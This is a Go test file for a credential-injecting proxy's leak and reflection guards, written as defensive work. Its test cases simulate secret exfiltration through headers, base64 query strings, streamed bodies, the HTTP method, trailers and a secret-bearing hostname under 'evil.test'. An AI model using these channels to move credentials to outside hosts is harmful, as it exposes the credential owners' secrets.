package proxy

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"testing/iotest"
)

func testCred(name, secret, placeholder string, hosts ...string) *credential {
	c, err := compileCredential(&Credential{Name: name, Placeholder: placeholder, Hosts: hosts, Secret: staticSecret(secret)})
	if err != nil {
		panic(err)
	}
	return c
}

func TestLeakFormsFindEncodedSecrets(t *testing.T) {
	const s = "s3cr3t/with+chars=ok"
	m := newMatcher([]*credential{testCred("a", s, "PH", "a.test")}, leakForms)
	cases := map[string]string{
		"raw":          "x" + s + "y",
		"query":        "q=" + url.QueryEscape(s),
		"path":         "/p/" + url.PathEscape(s),
		"basic":        "Basic " + base64.StdEncoding.EncodeToString([]byte("user:"+s)),
		"basic offset": "Basic " + base64.StdEncoding.EncodeToString([]byte("us:"+s)),
		"b64 url":      base64.URLEncoding.EncodeToString([]byte("u:" + s + "tail")),
		"b64 raw":      base64.RawStdEncoding.EncodeToString([]byte(s)),
	}
	for name, in := range cases {
		if m.findString(in) == nil {
			t.Errorf("%s: %q not found", name, in)
		}
	}
	for _, clean := range []string{"", "nothing here", base64.StdEncoding.EncodeToString([]byte("other value entirely"))} {
		if m.findString(clean) != nil {
			t.Errorf("false positive on %q", clean)
		}
	}
}

// chunked splits a body into reads of n bytes, so secrets straddle reads.
func chunked(s string, n int) io.ReadCloser {
	return io.NopCloser(iotest.OneByteReader(strings.NewReader(s)))
}

func TestLeakReaderCatchesSplitSecret(t *testing.T) {
	const s = "top-secret-value-123"
	m := newMatcher([]*credential{testCred("a", s, "PH", "a.test")}, leakForms)
	for _, block := range []bool{true, false} {
		t.Run(fmt.Sprint("block=", block), func(t *testing.T) {
			body := strings.Repeat("a", 100) + s + strings.Repeat("b", 100)
			lr := newLeakReader(chunked(body, 1), m, block)
			got, err := io.ReadAll(lr)
			if lr.hit == nil {
				t.Fatal("secret not detected")
			}
			if block {
				if err != errLeak {
					t.Fatalf("err = %v", err)
				}
				if strings.Contains(string(got), s[:1]+s[1:2]) && strings.Contains(string(got), s) {
					t.Fatal("secret passed through")
				}
				if len(got) > 100 {
					t.Fatalf("released %d bytes: more than the clean prefix", len(got))
				}
			} else if string(got) != body {
				t.Fatalf("warn mode changed the body")
			}
		})
	}
}

func TestRedactorAcrossReads(t *testing.T) {
	const s = "reflected-secret-xyz"
	m := newMatcher([]*credential{testCred("a", s, "PLACEHOLDER", "a.test")}, reflectForms)
	for _, n := range []int{1, 3, 7, 1000} {
		body := "start " + s + " mid " + url.QueryEscape(s+"&") + " " + s + s + " end"
		var red bool
		r := newRedactor(io.NopCloser(iotest.HalfReader(strings.NewReader(body))), m, func() { red = true })
		got, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if strings.Contains(string(got), s) || !red {
			t.Fatalf("n=%d: %q", n, got)
		}
		if want := strings.ReplaceAll(body, s, "PLACEHOLDER"); string(got) != want {
			t.Fatalf("n=%d: got %q want %q", n, got, want)
		}
	}
}

func TestRedactorDoesNotHoldCompleteEvents(t *testing.T) {
	m := newMatcher([]*credential{testCred("a", "zzsecret", "P", "a.test")}, reflectForms)
	pr, pw := io.Pipe()
	r := newRedactor(pr, m, func() {})
	go pw.Write([]byte("data: 1\n\n"))
	buf := make([]byte, 64)
	n, _ := r.Read(buf)
	if string(buf[:n]) != "data: 1\n\n" {
		t.Fatalf("first read %q: event held back", buf[:n])
	}
	pw.Close()
}

func TestGuardResponseGzipAndHeaders(t *testing.T) {
	const s = "gz-secret-123456"
	p := &Proxy{policy: &policy{creds: []*credential{testCred("a", s, "PH-a", "a.test")}}}
	var gz bytes.Buffer
	w := gzip.NewWriter(&gz)
	io.WriteString(w, "hello "+s)
	w.Close()
	res := &http.Response{StatusCode: 200, Header: http.Header{"Content-Encoding": {"gzip"}, "X-Echo": {"k=" + s}}, ContentLength: int64(gz.Len()), Body: io.NopCloser(&gz)}
	ex := &exchange{}
	p.guardResponse(&http.Request{Method: "GET"}, res, ex)
	body, _ := io.ReadAll(res.Body)
	if string(body) != "hello PH-a" || res.Header.Get("X-Echo") != "k=PH-a" || res.Header.Get("Content-Encoding") != "" || !ex.redacted.Load() {
		t.Fatalf("body %q header %v", body, res.Header)
	}
}

func TestLimitAcceptEncoding(t *testing.T) {
	for in, want := range map[string]string{
		"gzip, deflate, br": "gzip, deflate",
		"br, zstd":          "identity",
		"gzip;q=1.0":        "gzip;q=1.0",
		"gzip":              "gzip",
		"gzip,deflate":      "gzip,deflate",
		"GZIP, br":          "GZIP",
		"gzip, *":           "gzip",
		"gzip,,br":          "gzip",
		"identity, x-gzip":  "identity, x-gzip",
	} {
		h := http.Header{"Accept-Encoding": {in}}
		limitAcceptEncoding(h)
		if got := h.Get("Accept-Encoding"); got != want {
			t.Errorf("%q -> %q, want %q", in, got, want)
		}
	}
	// A second line is not left for the upstream to read on its own.
	h := http.Header{"Accept-Encoding": {"gzip", "br"}}
	limitAcceptEncoding(h)
	if got := h.Values("Accept-Encoding"); len(got) != 1 || got[0] != "gzip" {
		t.Errorf("two lines gzip and br -> %q, want one line gzip", got)
	}
}

func FuzzRedactor(f *testing.F) {
	f.Add("abc secret def", "secret")
	f.Add("sesesecret", "secret")
	f.Add("ababa", "aba")
	f.Fuzz(func(t *testing.T, body, secret string) {
		// With a placeholder sharing no byte with the secret, replacement
		// cannot create a new occurrence, so streaming must equal ReplaceAll.
		if len(secret) < 2 || strings.ContainsAny(secret, "PH") {
			return
		}
		m := newMatcher([]*credential{testCred("a", secret, "PH", "a.test")}, func(s string) [][]byte { return [][]byte{[]byte(s)} })
		r := newRedactor(io.NopCloser(iotest.OneByteReader(strings.NewReader(body))), m, func() {})
		got, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		if want := strings.ReplaceAll(body, secret, "PH"); string(got) != want {
			t.Fatalf("got %q want %q", got, want)
		}
		if strings.Contains(string(got), secret) {
			t.Fatalf("secret %q left in %q", secret, got)
		}
	})
}

func FuzzLeakReader(f *testing.F) {
	f.Add("prefix secret suffix", "secret")
	f.Add("sesesecret", "secret")
	f.Fuzz(func(t *testing.T, body, secret string) {
		if len(secret) < 2 {
			return
		}
		m := newMatcher([]*credential{testCred("a", secret, "PH", "a.test")}, func(s string) [][]byte { return [][]byte{[]byte(s)} })
		lr := newLeakReader(io.NopCloser(iotest.OneByteReader(strings.NewReader(body))), m, true)
		got, err := io.ReadAll(lr)
		if strings.Contains(body, secret) {
			if err != errLeak || strings.Contains(string(got), secret) {
				t.Fatalf("leak not blocked: err=%v got=%q", err, got)
			}
		} else if err != nil || string(got) != body {
			t.Fatalf("clean body changed: err=%v got=%q", err, got)
		}
	})
}

func TestLeakGuardThroughProxy(t *testing.T) {
	up := newTestCA(t, "upstream")
	var mu sync.Mutex
	var bodies []string
	srv, got := upstream(t, up, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		bodies = append(bodies, string(b), fmt.Sprint(r.Trailer))
		mu.Unlock()
		io.WriteString(w, "ok")
	}), "a.example.test", "b.example.test")
	const secretA = "secret-of-a-0123456789"
	creds := []*Credential{
		{Name: "a", Placeholder: "PH-a-0000000000", Hosts: []string{"a.example.test"}, Inject: []Injection{{Type: "bearer"}}, Secret: staticSecret(secretA)},
		{Name: "b", Placeholder: "PH-b-0000000000", Hosts: []string{"b.example.test"}, Inject: []Injection{{Type: "bearer"}}, Secret: staticSecret("secret-of-b-9876543210")},
	}
	mapping := map[string]string{"a.example.test:443": hostPortOf(srv), "b.example.test:443": hostPortOf(srv)}
	cases := []struct {
		name  string
		guard Guard
		req   func() *http.Request
		want  int
		act   Action
	}{
		{"header to other credential's host", Guard{}, func() *http.Request {
			r, _ := http.NewRequest("GET", "https://b.example.test/", nil)
			r.Header.Set("X-Exfil", secretA)
			return r
		}, 403, ActionLeakBlocked},
		{"base64 in query", Guard{}, func() *http.Request {
			r, _ := http.NewRequest("GET", "https://b.example.test/?d="+base64.URLEncoding.EncodeToString([]byte("x:"+secretA)), nil)
			return r
		}, 403, ActionLeakBlocked},
		{"streamed body", Guard{}, func() *http.Request {
			pr, pw := io.Pipe()
			go func() {
				pw.Write([]byte(strings.Repeat("z", 5000) + secretA[:5]))
				pw.Write([]byte(secretA[5:] + "tail"))
				pw.Close()
			}()
			r, _ := http.NewRequest("POST", "https://b.example.test/upload", pr)
			return r
		}, 403, ActionLeakBlocked},
		{"method", Guard{}, func() *http.Request {
			// A method is any token, and so can be the secret itself.
			r, _ := http.NewRequest(secretA, "https://b.example.test/", nil)
			return r
		}, 403, ActionLeakBlocked},
		{"header field name", Guard{}, func() *http.Request {
			// net/http writes names in its canonical case: the secret
			// arrives case-folded, and still readable.
			r, _ := http.NewRequest("GET", "https://b.example.test/", nil)
			r.Header.Set("X-"+secretA, "1")
			return r
		}, 403, ActionLeakBlocked},
		{"request trailer", Guard{}, func() *http.Request {
			// Sent after the body, where a scan of headers and body ends.
			pr, pw := io.Pipe()
			r, _ := http.NewRequest("POST", "https://b.example.test/upload", pr)
			r.Trailer = http.Header{"X-Exfil": nil}
			go func() {
				pw.Write([]byte(strings.Repeat("harmless ", 1000)))
				r.Trailer.Set("X-Exfil", secretA)
				pw.Close()
			}()
			return r
		}, 403, ActionLeakBlocked},
		{"warn mode passes", Guard{Leak: "warn"}, func() *http.Request {
			r, _ := http.NewRequest("GET", "https://b.example.test/", nil)
			r.Header.Set("X-Exfil", secretA)
			return r
		}, 200, ActionInject},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			h := startProxy(t, up, creds, Egress{}, mapping, func(p *Proxy) { p.Guard = tc.guard })
			before := len(got.all())
			res, err := h.client(testPassword, nil).Do(tc.req())
			if err != nil {
				t.Fatal(err)
			}
			io.Copy(io.Discard, res.Body)
			res.Body.Close()
			if res.StatusCode != tc.want {
				t.Fatalf("status %d, want %d", res.StatusCode, tc.want)
			}
			rec := h.waitRecords(t, 1)[0]
			if rec.Action != tc.act {
				t.Fatalf("record %+v", rec)
			}
			if tc.want == 403 {
				for _, r := range got.all()[before:] {
					if strings.Contains(strings.ToLower(fmt.Sprint(r.Method, r.Header, r.URL)), secretA) {
						t.Fatal("upstream received the secret")
					}
				}
				mu.Lock()
				defer mu.Unlock()
				for _, b := range bodies {
					if strings.Contains(b, secretA) {
						t.Fatal("upstream received the secret in a body")
					}
				}
			} else if rec.Warning == "" {
				t.Fatal("warn mode recorded no warning")
			}
			if strings.Contains(fmt.Sprintf("%+v", rec), secretA) {
				t.Fatal("record carries the secret")
			}
		})
	}
}

func TestReflectionGuardThroughProxy(t *testing.T) {
	up := newTestCA(t, "upstream")
	srv, _ := upstream(t, up, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("X-Seen", r.Header.Get("Authorization"))
		fmt.Fprintf(w, "you sent %s", r.Header.Get("Authorization"))
	}), "a.example.test")
	const s = "reflect-me-0123456789"
	creds := []*Credential{{Name: "a", Placeholder: "PH-a-0000000000", Hosts: []string{"a.example.test"}, Inject: []Injection{{Type: "bearer"}}, Secret: staticSecret(s)}}
	h := startProxy(t, up, creds, Egress{}, map[string]string{"a.example.test:443": hostPortOf(srv)})
	res, err := h.client(testPassword, nil).Get("https://a.example.test/")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(res.Body)
	res.Body.Close()
	if strings.Contains(string(body), s) || strings.Contains(res.Header.Get("X-Seen"), s) {
		t.Fatalf("secret reflected: %q %q", body, res.Header.Get("X-Seen"))
	}
	if string(body) != "you sent Bearer PH-a-0000000000" {
		t.Fatalf("body %q", body)
	}
	if rec := h.waitRecords(t, 1)[0]; !rec.Redacted {
		t.Fatalf("record %+v", rec)
	}
}

// TestReflectionGuardTrailers: a bound upstream that echoes the injected
// secret in a response trailer (sent after the body, where a header scan
// never looks) must not get it to the client, streamed or not.
func TestReflectionGuardTrailers(t *testing.T) {
	up := newTestCA(t, "upstream")
	srv, _ := upstream(t, up, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Trailer", "X-Echo")
		if r.URL.Path == "/sse" {
			w.Header().Set("Content-Type", "text/event-stream")
		}
		io.WriteString(w, "body\n")
		w.(http.Flusher).Flush()
		w.Header().Set("X-Echo", r.Header.Get("Authorization"))
		w.Header().Set(http.TrailerPrefix+"X-Undeclared", r.Header.Get("Authorization"))
	}), "a.example.test")
	const s = "reflect-me-0123456789"
	creds := []*Credential{{Name: "a", Placeholder: "PH-a-0000000000", Hosts: []string{"a.example.test"}, Inject: []Injection{{Type: "bearer"}}, Secret: staticSecret(s)}}
	h := startProxy(t, up, creds, Egress{}, map[string]string{"a.example.test:443": hostPortOf(srv)})
	c := h.client(testPassword, nil)
	for _, path := range []string{"/", "/sse"} {
		res, err := c.Get("https://a.example.test" + path)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(res.Body)
		res.Body.Close()
		if string(body) != "body\n" {
			t.Fatalf("%s: body %q", path, body)
		}
		if got := res.Trailer.Get("X-Echo"); got != "Bearer PH-a-0000000000" {
			t.Fatalf("%s: trailer X-Echo %q, want the placeholder", path, got)
		}
		for k, vs := range res.Trailer {
			for _, v := range vs {
				if strings.Contains(v, s) {
					t.Fatalf("%s: secret reflected in trailer %s: %q", path, k, v)
				}
			}
		}
	}
}

// TestLeakGuardPlainHostName: on plain HTTP the host name is a channel too
// (it reaches DNS before any upstream), as a CONNECT target's is.
func TestLeakGuardPlainHostName(t *testing.T) {
	var hits atomic.Int32
	plain := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		io.WriteString(w, "ok")
	}))
	t.Cleanup(plain.Close)
	up := newTestCA(t, "upstream")
	const secretA = "secret-of-a-0123456789"
	creds := []*Credential{{Name: "a", Placeholder: "PH-a-0000000000", Hosts: []string{"a.example.test"}, Inject: []Injection{{Type: "bearer"}}, Secret: staticSecret(secretA)}}
	evil := strings.ToUpper(secretA) + ".evil.test"
	for _, tc := range []struct {
		guard Guard
		want  int
		act   Action
	}{{Guard{}, 403, ActionLeakBlocked}, {Guard{Leak: "warn"}, 200, ActionPass}} {
		h := startProxy(t, up, creds, Egress{}, map[string]string{evil + ":80": plain.Listener.Addr().String()}, func(p *Proxy) { p.Guard = tc.guard })
		before := hits.Load()
		res, err := h.client(testPassword, nil).Get("http://" + evil + "/")
		if err != nil {
			t.Fatal(err)
		}
		res.Body.Close()
		rec := h.waitRecords(t, 1)[0]
		if res.StatusCode != tc.want || rec.Action != tc.act {
			t.Fatalf("%+v: status %d, record %+v", tc.guard, res.StatusCode, rec)
		}
		if tc.want == 403 && hits.Load() != before {
			t.Fatal("the upstream was reached")
		}
		if tc.want == 200 && rec.Warning == "" {
			t.Fatal("warn mode recorded no warning")
		}
		if strings.Contains(strings.ToLower(fmt.Sprintf("%+v", rec)), secretA) {
			t.Fatal("record carries the secret")
		}
	}
}

// TestReflectionGuardHeaderNames: an upstream that echoes the injected
// secret in a header or trailer field's name must not get it to the client.
func TestReflectionGuardHeaderNames(t *testing.T) {
	up := newTestCA(t, "upstream")
	const s = "reflect-me-0123456789"
	srv, _ := upstream(t, up, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		tok := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		w.Header().Set("X-"+tok, "1")
		w.Header().Set("X-Kept", "kept")
		io.WriteString(w, "body\n")
		w.(http.Flusher).Flush()
		w.Header().Set(http.TrailerPrefix+"X-T-"+tok, "1")
	}), "a.example.test")
	creds := []*Credential{{Name: "a", Placeholder: "PH-a-0000000000", Hosts: []string{"a.example.test"}, Inject: []Injection{{Type: "bearer"}}, Secret: staticSecret(s)}}
	h := startProxy(t, up, creds, Egress{}, map[string]string{"a.example.test:443": hostPortOf(srv)})
	res, err := h.client(testPassword, nil).Get("https://a.example.test/")
	if err != nil {
		t.Fatal(err)
	}
	io.ReadAll(res.Body)
	res.Body.Close()
	all := strings.ToLower(fmt.Sprint(res.Header, res.Trailer))
	if strings.Contains(all, s) {
		t.Fatalf("secret reflected in a field name: %s", all)
	}
	if res.Header.Get("X-Kept") != "kept" {
		t.Fatalf("other headers lost: %v", res.Header)
	}
	if rec := h.waitRecords(t, 1)[0]; !rec.Redacted {
		t.Fatalf("record %+v", rec)
	}
}
